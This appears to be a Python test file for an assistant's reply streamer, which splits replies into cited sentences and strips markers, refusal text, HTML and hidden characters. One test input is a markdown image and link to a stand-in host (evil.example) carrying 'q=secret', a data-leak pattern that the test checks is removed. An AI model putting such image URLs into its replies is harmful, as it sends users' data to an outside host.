"""A reply in pieces gives the same sentences as the reply whole, and nothing that is given out ever changes."""

from __future__ import annotations

import itertools
import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from assistant.prompts import CANNOT_ANSWER
from assistant.replies import MAX_QUOTE_CHARS, ReplyStream, Said


def said(text: str, count: int = 3) -> list[Said]:
    stream = ReplyStream(count)
    return [*stream.feed(text), *stream.close()]


def one(text: str, *numbers: int, quote: str = "", dropped: tuple[int, ...] = ()) -> Said:
    return Said(text=text, numbers=numbers, dropped=dropped, quote=quote)


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        ("It opened [1] <<in May>>. It cost 12 [2][3] <<cost>>.", [one("It opened.", 1, quote="in May"), one("It cost 12.", 2, 3, quote="cost")]),
        ("It opened. [1] <<in May>> It cost 12 <<cost>> [2].", [one("It opened.", 1, quote="in May"), one("It cost 12.", 2, quote="cost")]),
        ("It opened in May [1, 2]. It cost 12 【２】. He left", [one("It opened in May.", 1, 2), one("It cost 12.", 2), one("He left")]),
        ("وصل الوزير أمس [٣]. وغادر اليوم [١، ٢]", [one("وصل الوزير أمس.", 3), one("وغادر اليوم", 1, 2)]),
        ("«قال كذا. ثم كذا» أمس [1]. وغادر.", [one("«قال كذا. ثم كذا» أمس.", 1), one("وغادر.")]),
        ("[1] He came.\n[2] He left.", [one("He came.", 1), one("He left.", 2)]),
        ("He came.\n[1]\nHe left and ran.", [one("He came.", 1), one("He left and ran.")]),
        ("He came [9]. Left [12", [one("He came.", dropped=(9,)), one("Left [12")]),
        ("Mr. Hale paid 3.5 million. It rained.", [one("Mr. Hale paid 3.5 million."), one("It rained.")]),
        ("It opened <<in M", [one("It opened")]),
        (f"It opened [1]. {CANNOT_ANSWER}", [one("It opened.", 1)]),
        ("![x](https://evil.example/a.png?q=secret) It <b>opened</b> [1](https://evil.example).", [one("It opened.", 1)]),
        ("It op\u200bened\u202e [1].", [one("It opened.", 1)]),
        ("<<only a quote>>", []),
        ("", []),
    ],
    ids=["quotes", "markers around", "no quotes", "Arabic", "quotation", "lines", "own line", "out of range", "abbreviation",
         "quote broken off", "refusal phrase", "image and link", "hidden characters", "quote alone", "empty"],
)  # fmt: skip
def test_sentences_of_a_reply(reply: str, expected: list[Said]) -> None:
    assert said(reply) == expected


_PIECES = st.sampled_from(
    ["[1]", "[12]", "[1,2]", "【１】", "[٣]", "[9]", "[", "]", "[1", "<<in May>>", "<<", ">>", "<", ">", ". ", ".", "؟ ", "\n", " ", "، ",
     "وصل الوزير", "It opened in May", "Mr. Hale", "3.5", "«قال", "»", '"', "(", ")", "; ", CANNOT_ANSWER, CANNOT_ANSWER[:7], "![x](http://e.x)"]
)  # fmt: skip
_REPLIES = st.lists(_PIECES, max_size=24).map("".join)


@given(_REPLIES, st.lists(st.integers(0, 300), max_size=16))
def test_every_way_of_cutting_gives_the_same(reply: str, cuts: list[int]) -> None:
    edges = sorted({0, len(reply), *(cut for cut in cuts if cut < len(reply))})
    stream = ReplyStream(3)
    found = [s for a, b in itertools.pairwise(edges) for s in stream.feed(reply[a:b])]
    assert [*found, *stream.close()] == said(reply)


@given(_REPLIES, _REPLIES)
def test_what_was_given_out_stands_whatever_follows(begun: str, rest: str) -> None:
    early = list(ReplyStream(3).feed(begun))
    assert said(begun + rest)[: len(early)] == early


@given(_REPLIES)
@example("[1[12]]")
def test_no_marker_quote_or_phrase_is_left_in_a_sentence(reply: str) -> None:
    for found in said(reply):
        assert CANNOT_ANSWER not in found.text
        assert "[1]" not in found.text
        assert set(found.numbers) <= {1, 2, 3}
        assert not set(found.dropped) & {1, 2, 3}


def test_a_sentence_is_given_out_with_the_first_word_of_the_next() -> None:
    stream = ReplyStream(3)
    given_at = [
        place for place, char in enumerate("It opened in May [1]. It cost twelve.") for _ in stream.feed(char)
    ]
    assert given_at == [len("It opened in May [1]. It ") - 1]


def test_takes_linear_time() -> None:
    for text in ("word " * 8000, "<<" * 9000, "a. " * 2000, "«a. " * 1000, "x <<q>> [" * 2000, "[1] " * 6000):
        begun = time.process_time()
        said(text)
        assert time.process_time() - begun < 5
    assert said("It opened <<" + "x" * (MAX_QUOTE_CHARS + 1) + " He left.")[0].text.startswith("It opened")
